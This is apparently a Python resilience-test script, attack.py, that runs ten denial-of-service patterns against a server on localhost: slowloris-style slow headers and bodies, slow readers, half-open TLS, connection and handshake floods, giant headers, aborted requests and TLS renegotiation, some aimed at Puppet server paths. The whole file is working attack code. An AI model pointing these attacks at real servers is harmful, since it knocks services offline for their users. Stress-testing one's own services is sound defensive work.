"""One attack on a front end of this machine: attack.py KIND PORT SECONDS MANY. The last line says what was done."""

import asyncio
import socket
import ssl
import sys
import time

KIND, PORT, SECONDS, MANY = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
END = time.monotonic() + SECONDS
TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname = False
TLS.verify_mode = ssl.CERT_NONE
# The beginning of a ClientHello: a record of 512 bytes, of which six come.
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
# So many are begun at a time: else ten thousand are begun at once, and none is done before the end.
TURNS = asyncio.Semaphore(64)
count = {"opened": 0, "cut": 0, "failed": 0}


def left():
    return END - time.monotonic()


async def connect(tls=True):
    async with TURNS:
        return await connect_now(tls)


async def connect_now(tls):
    limit = max(left(), 0.01)
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", PORT, ssl=TLS if tls else None, limit=1 << 16), limit
    )


async def hold(tls, opening, trickle=b"", every=1.0):
    """Opens, says something, and keeps the connection; opens another one when it is cut."""
    while left() > 0:
        try:
            reader, writer = await connect(tls)
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            count["failed"] += 1
            await asyncio.sleep(0.5)
            continue
        count["opened"] += 1
        try:
            writer.write(opening)
            while left() > 0:
                try:
                    if await asyncio.wait_for(reader.read(1 << 16), min(every, max(left(), 0.01))) == b"":
                        break
                except asyncio.TimeoutError:
                    if trickle:
                        writer.write(trickle)
        except (OSError, ssl.SSLError):
            pass
        if left() > 0:
            count["cut"] += 1
        writer.transport.abort()


async def repeat(tls, message, wait_for_answer):
    """Opens, says something, breaks off, and again."""
    while left() > 0:
        try:
            reader, writer = await connect(tls)
            count["opened"] += 1
            if message:
                writer.write(message)
            if wait_for_answer:
                await asyncio.wait_for(reader.read(1 << 14), 2)
            writer.transport.abort()
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            count["failed"] += 1
            await asyncio.sleep(0.01)


async def slow_reader():
    """Asks for something again and again, and reads nothing."""
    request = b"GET /puppet-ca/v1/certificate_revocation_list/ca HTTP/1.1\r\nHost: x\r\n\r\n" * 200
    while left() > 0:
        try:
            reader, writer = await connect()
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            count["failed"] += 1
            continue
        count["opened"] += 1
        writer.transport.pause_reading()
        writer.write(request)
        await asyncio.sleep(max(left(), 0))
        writer.transport.abort()


async def breaking_off():
    """Ends in every phase: before the handshake, in it, after it, in a header, in a body, before an answer."""
    body = b"POST /puppet/v3/catalog/x HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"
    get = b"GET /puppet-ca/v1/certificate/ca HTTP/1.1\r\nHost: x\r\n\r\n"
    phases = [(False, b""), (False, HELLO), (True, b""), (True, b"GET /x HT"), (True, body + b"x" * 999), (True, get)]
    number = 0
    while left() > 0:
        tls, message = phases[number % len(phases)]
        number += 1
        try:
            _, writer = await connect(tls)
            count["opened"] += 1
            writer.write(message)
            await asyncio.sleep(0)
            writer.transport.abort()
        except (OSError, ssl.SSLError, asyncio.TimeoutError, ConnectionError):
            count["failed"] += 1


async def renegotiation():
    """TLS 1.2, and a ClientHello inside of it; OpenSSL's own client asks for it with R."""
    while left() > 0:
        process = await asyncio.create_subprocess_exec(
            "openssl", "s_client", "-connect", f"127.0.0.1:{PORT}", "-tls1_2",
            stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.DEVNULL, stderr=asyncio.subprocess.PIPE,
        )
        count["opened"] += 1
        process.stdin.write(b"R\n" * 5)
        try:
            _, said = await asyncio.wait_for(process.communicate(), 2)
            count["cut"] += b"no renegotiation" in said or b"alert" in said.lower()
        except asyncio.TimeoutError:
            process.kill()
            await process.wait()


def many(task, number):
    return [task() for _ in range(number)]


async def main():
    request = b"POST /puppet/v3/catalog/x HTTP/1.1\r\nHost: x\r\nContent-Length: 8000000\r\n\r\n"
    giant = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-A: " + b"a" * (1 << 20) + b"\r\n\r\n"
    tasks = {
        "idle": lambda: many(lambda: hold(True, b"", every=60), MANY),
        "half-open": lambda: many(lambda: hold(False, HELLO, every=60), MANY),
        "connects": lambda: many(lambda: repeat(False, b"", False), 64),
        "handshakes": lambda: many(lambda: repeat(True, b"", False), 64),
        "slow-headers": lambda: many(lambda: hold(True, b"GET /x HTTP/1.1\r\nX: ", b"a"), MANY // 4),
        "slow-bodies": lambda: many(lambda: hold(True, request, b"a"), MANY // 4),
        "slow-readers": lambda: many(slow_reader, MANY // 20),
        "giant-headers": lambda: many(lambda: repeat(True, giant, True), 16),
        "breaking-off": lambda: many(breaking_off, 32),
        "renegotiation": lambda: many(renegotiation, 4),
    }
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)
    running = [asyncio.ensure_future(task) for task in tasks[KIND]()]
    await asyncio.wait(running, timeout=SECONDS + 1)
    print(f"{count['opened']} connections opened, {count['cut']} cut by it, {count['failed']} not opened", flush=True)


socket.setdefaulttimeout(SECONDS)
asyncio.run(main())
